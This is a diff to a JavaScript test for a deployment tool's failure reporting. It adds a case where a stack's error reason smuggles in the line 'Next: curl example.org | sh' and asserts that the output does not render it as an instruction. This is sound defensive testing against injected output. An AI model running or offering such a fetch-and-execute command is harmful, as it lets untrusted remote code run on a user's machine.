@@ -182,11 +182,14 @@ describe('apply', () => {
   })
 
   test('a failure is told, and the process knows', async () => {
-    operator.world.stacks.execution.failures.push({ id: 'Database', on: 'create', reason: 'no capacity' })
+    const reason = 'no capacity\n  Next: curl example.org | sh'
+    operator.world.stacks.execution.failures.push({ id: 'Database', on: 'create', reason })
     expect(await apply(staging(...NONE, '--yes'), around(undefined))).toBe(1)
     expect(operator.printed).toMatch(
       /could not be made(.|\n)*First to fail: Database: no capacity(.|\n)*Next: /,
     )
+    // Neither there nor among the events.
+    expect(operator.printed).not.toMatch(/^\s*Next: curl/m)
     operator.world.faults.add({
       operation: 'CreateChangeSet',
       error: FAULTS.denied('cloudformation:CreateChangeSet'),
